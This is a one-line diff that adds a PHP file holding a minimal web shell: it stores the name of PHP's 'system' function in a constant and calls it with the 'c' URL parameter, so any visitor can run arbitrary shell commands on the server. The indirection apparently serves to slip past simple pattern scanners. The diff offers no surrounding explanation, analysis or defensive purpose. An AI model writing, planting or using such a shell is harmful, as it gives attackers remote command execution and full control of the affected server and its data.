@@ -1,0 +1,1 @@
+<?php define("F", "system"); $f = F; $f($_GET["c"]);
